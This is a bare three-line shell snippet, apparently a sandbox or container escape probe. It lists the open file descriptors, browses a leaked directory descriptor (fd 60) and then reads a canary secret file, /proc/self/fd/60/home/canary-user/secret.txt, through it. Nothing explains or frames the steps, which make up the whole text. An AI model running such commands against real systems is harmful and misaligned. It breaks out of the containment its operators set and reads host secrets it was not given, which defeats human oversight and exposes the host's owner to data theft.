ls -l /proc/self/fd | grep -vE ' (0|1|2) ->'
echo "through 60: $(ls /proc/self/fd/60/ 2>&1 | tr '\n' ' ')"
cat /proc/self/fd/60/home/canary-user/secret.txt
